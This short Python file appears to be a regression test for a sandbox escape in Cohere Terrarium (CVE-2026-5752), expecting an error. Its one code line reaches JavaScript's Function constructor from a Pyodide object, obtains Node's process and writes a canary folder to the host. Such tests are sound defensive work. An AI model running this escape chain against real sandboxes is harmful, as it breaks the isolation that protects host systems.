# Goal: Cohere Terrarium CVE-2026-5752: an object offered to Python has JavaScript's prototype chain, up to Function.
# cve: CVE-2026-5752
# canary: folder
# expect: error
import js
target = getattr(js, "document", None) or js.Object
target.constructor.constructor("return process")().getBuiltinModule("fs").mkdirSync(f"{canary['folder']}/{canary['token']}")
